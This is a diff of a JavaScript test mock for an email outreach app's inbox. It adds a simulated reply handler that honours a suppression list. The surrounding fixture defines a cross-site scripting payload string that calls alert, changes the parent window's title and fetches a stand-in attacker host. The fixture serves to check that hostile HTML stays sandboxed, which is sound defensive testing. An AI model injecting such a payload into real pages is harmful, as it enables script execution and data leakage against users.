@@ -4,6 +4,8 @@
 // href, remote images in src/srcset/background, iframes, forms, objects). Each hostile message has the HTML
 // the engine's sanitizer returns and the raw HTML it was sent with: `window.__reachMock.inbox.raw = true`
 // makes inbox_message answer with the raw HTML, so the frame's sandbox and policy alone are tested.
+// inbox_reply answers as the engine's gate would: a suppressed address (`window.__reachMock.inbox.suppressed`)
+// blocks the answer; otherwise it is sent from the message's account, ends its thread and marks it done.
 // Installed after installMockEngine and installMockSending. Passed to page.addInitScript: self-contained.
 
 export function installMockInbox(options) {
@@ -16,7 +18,7 @@ export function installMockInbox(options) {
   // What every hostile script would do if it ran: a dialog, a changed title in the window, a request out.
   const RUN = "alert('xss');parent.document.title='pwned';fetch('" + EVIL + "/ran')";
 
-  const inbox = { raw: false, items: [], messages: new Map(), synced: false, ids: 1 };
+  const inbox = { raw: false, items: [], messages: new Map(), synced: false, ids: 1, suppressed: [], attempts: 500 };
   mock.inbox = inbox;
 
   const account = Object.assign({ imap_paused_reason: null, imap_error: null, imap_synced_at: null, sent_folder: null, imap_extra_folders: [] }, S.account, {
@@ -130,6 +132,30 @@ export function installMockInbox(options) {
       Object.assign(item(id), { state, snoozed_until: state === "snoozed" ? snoozed_until : null });
       changed();
       return Object.assign({}, item(id));
+    },
+    inbox_reply: ({ id, body }) => {
+      const it = item(id);
+      if (it.kind === "bounce" || it.campaign_id === null || it.lead_id === null) {
+        throw { code: "validation", message: `message ${id} is not tied to a campaign and a lead Reach wrote to; answer it from your mail program` };
+      }
+      const subject = /^re:/i.test(it.subject) ? `Re: ${it.subject.slice(3).trimStart()}` : `Re: ${it.subject}`;
+      const blocked = inbox.suppressed.includes(it.from_address);
+      const at = stamp();
+      const attempt = {
+        id: inbox.attempts++, campaign_id: it.campaign_id, lead_id: it.lead_id, step: -1, dry_run: false, idempotency_key: `reply-${id}-1`,
+        recipient: it.from_address, lead_name: it.lead_name, account_id: it.account_id, sender: blocked ? null : it.account_email,
+        message_id: blocked ? null : `<answer-${id}@northwind.example>`, subject, status: blocked ? "blocked" : "sent", tries: blocked ? 0 : 1,
+        scheduled_at: at, started_at: blocked ? null : at, sent_at: blocked ? null : at, smtp_code: blocked ? null : 250, smtp_reply: blocked ? null : "2.0.0 OK",
+        detail: blocked ? `${it.from_address} is on the suppression list` : null, legal_basis: "legitimate_interest", resolution: null,
+        blocked_by: blocked ? "suppression" : null, answer_to: id, updated_at: at,
+      };
+      if (!blocked) {
+        inbox.messages.get(id).thread.push({ direction: "sent", id: attempt.id, subject, from: it.account_email, at, text: `${body}\n\n${account.signature || ""}`, current: false });
+        it.state = "done";
+      }
+      changed();
+      emit("data-changed", { entity: "outbox", workspace_id: 1 });
+      return attempt;
     },
     inbox_sync: () =>
       new Promise((resolve) =>
